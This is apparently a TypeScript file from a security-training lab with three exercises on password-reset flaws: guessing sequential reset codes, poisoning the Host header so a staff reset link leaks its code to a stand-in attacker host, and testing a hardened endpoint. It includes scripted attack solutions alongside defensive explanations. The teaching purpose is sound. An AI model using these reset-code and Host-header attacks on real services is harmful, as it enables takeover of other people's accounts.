import { inOneText } from '../../http/written.ts';
import type { RigStep } from '../../rig/lab.ts';
import { solved, unsolved } from '../definition.ts';
import { of, reached } from '../told.ts';
import { ATTACKER_HOST } from './places.ts';
import { forward, OWN, post, STAFF } from './requests.ts';
import type { TokensRun } from './rig.ts';

const STAFF_ID = 1;
const NEW = 'chosen by somebody';

const ask = (door: string, email: string, ...headers: readonly string[]) =>
  post(`/${door}/reset`, { email }, ...headers);
const confirm = (door: string, code: string) =>
  post(`/${door}/reset/confirm`, { code, password: NEW });
const AS_STAFF = post('/sessions', { email: STAFF, password: NEW });
const MINE = ask('weak', OWN.email);

const guess: RigStep<TokensRun> = {
  id: 'guess',
  title: 'Guess the code of a reset',
  text: [
    'Who has forgotten a password gets a message with a code, and the code is as good as the password. `POST /weak/reset` sends it to an address, `POST /weak/reset/confirm` takes it with a new password. Your own messages are at `GET /mailbox`. Those to `staff@sparewheel.example` you cannot read.',
    'The weak way takes a counter for its codes, and never crosses one out.',
    'Get a session of staff: have your own code sent, look at it, have one sent to staff, and guess. In the same run use the guessed code a **second time**, then log in at `POST /sessions`.',
  ],
  start: inOneText(MINE, 'GET /mailbox'),
  hints: [
    'Send the text as it is: which number did you get? It is the same in every run.',
    'Staff gets the next number.',
    'Six requests: your reset, the mailbox, the reset of staff, the code of staff twice, the login.',
  ],
  solution: inOneText(
    MINE,
    'GET /mailbox',
    ask('weak', STAFF),
    confirm('weak', '7042'),
    confirm('weak', '7042'),
    AS_STAFF,
  ),
  check: reached((happened) => {
    const changed = of(happened, 'reset').filter(
      ({ door, account, how }) => door === 'weak' && account === STAFF_ID && how === 'changed',
    );
    if (changed.length === 0) return unsolved('The password of staff is what it was.');
    const [first] = changed;
    const isIn = of(happened, 'session').some(
      ({ account, request }) => account === STAFF_ID && request > (first?.request ?? 0),
    );
    if (!isIn) return unsolved('The password of staff is yours; nobody has logged in with it.');
    if (!changed.some(({ uses }) => uses > 1)) {
      return unsolved('You are in. No code was used a second time.');
    }
    return solved(
      '**How an attacker thinks:** I ask for my own code to see how codes are made, and an old message in a mailbox is still a key. **What really stops it:** at least 128 random bits, one use, a short life. A rate limit makes guessing slow; randomness makes it hopeless.',
    );
  }),
};

const FOREIGN = `Host: ${ATTACKER_HOST}`;

const host: RigStep<TokensRun> = {
  id: 'host',
  title: 'Poison the link in the message',
  text: [
    'At `/hosted/reset` the code is random, is good once, and for 15 minutes. The link in the message is made of the `Host` header of the request, so that the same program runs under any name.',
    `You own \`${ATTACKER_HOST}\`. What browsers ask it for is at \`GET https://${ATTACKER_HOST}/log\`. In this model, staff opens every link in a message at once.`,
    'Get a session of staff once more. The password you set should be yours to choose, and the code one that you have never been sent.',
  ],
  start: inOneText(ask('hosted', STAFF), `GET https://${ATTACKER_HOST}/log`),
  hints: [
    `A request can name any host: put \`${FOREIGN}\` below its first line.`,
    'The code stands in the log, behind `code=`. It is the same in every run, so you can type it.',
    'Then confirm at `/hosted/reset/confirm`, and log in at `POST /sessions`.',
  ],
  solution: inOneText(
    ask('hosted', STAFF, FOREIGN),
    `GET https://${ATTACKER_HOST}/log`,
    confirm('hosted', '{{2.body.asked.0 | after code=}}'),
    AS_STAFF,
  ),
  predict: {
    question: 'The message is genuine, and comes from the vault. Where does its link lead?',
    options: [
      'To the vault: it has made the link',
      'Where the request said that it had gone',
      'Nowhere: the signature of the mail is broken',
    ],
    answer: 1,
    explanation:
      'The program asked the request for its own name. A request says what its sender wrote.',
  },
  check: reached((happened) => {
    const taken = of(happened, 'reset').find(
      (each) =>
        each.door === 'hosted' &&
        each.account === STAFF_ID &&
        each.how === 'changed' &&
        each.isLeaked,
    );
    if (taken === undefined) {
      const isAway = of(happened, 'mail').some((each) => each.host === ATTACKER_HOST);
      return unsolved(
        isAway
          ? 'A link to your server was sent. The password of staff is what it was.'
          : 'No message has a link to your server.',
      );
    }
    const isIn = of(happened, 'session').some(
      ({ account, request }) => account === STAFF_ID && request > taken.request,
    );
    if (!isIn) return unsolved('The password of staff is yours; nobody has logged in with it.');
    return solved(
      '**How an attacker thinks:** let the real sender deliver my link. **What really stops it:** the address of the site is a setting of the program, and no part of a request. A server that answers to its own names only is a second wall.',
    );
  }),
};

const right: RigStep<TokensRun> = {
  id: 'right',
  title: 'Try the same on the right way',
  text: [
    'At `/strict/reset` a code is random and kept as a hash, is good once and for 15 minutes, its link leads to the address in the settings, and a new password ends every session of the account.',
    'Test it as its attacker, on your own account, in one run. Ask with the `Host` header of `attacker.example`. Use the code from your mailbox, and use it **again**. Ask for another one, and come with it **too late**.',
  ],
  start: inOneText(ask('strict', OWN.email), 'GET /mailbox'),
  hints: [
    'The newest message comes first: its code is `{{2.body.mails.0.code}}`.',
    'Confirm at `/strict/reset/confirm`, twice. After the second message move the clock by 15 minutes.',
  ],
  solution: inOneText(
    ask('strict', OWN.email, FOREIGN),
    'GET /mailbox',
    confirm('strict', '{{2.body.mails.0.code}}'),
    confirm('strict', '{{2.body.mails.0.code}}'),
    ask('strict', OWN.email),
    'GET /mailbox',
    forward('minutes=15'),
    confirm('strict', '{{6.body.mails.0.code}}'),
  ),
  check: reached((happened) => {
    const mails = of(happened, 'mail').filter(({ door }) => door === 'strict');
    if (!mails.some(({ asked, host: named }) => asked === ATTACKER_HOST && asked !== named)) {
      return unsolved('No reset was asked for with a foreign `Host` header.');
    }
    const resets = of(happened, 'reset').filter(({ door }) => door === 'strict');
    const has = (how: (typeof resets)[number]['how']) => resets.some((each) => each.how === how);
    if (!has('changed')) return unsolved('No code was used.');
    if (!has('spent')) return unsolved('No code was used a second time.');
    if (!has('expired')) return unsolved('No code came too late.');
    return solved(
      'Nothing was left to take: the link led home, the code worked once, and the late one was dead. **What really stops it** is all of this together. A reset is a second way to log in, and the easier of the two is the one that is attacked.',
    );
  }),
};

export const RESETTING: readonly RigStep<TokensRun>[] = [guess, host, right];
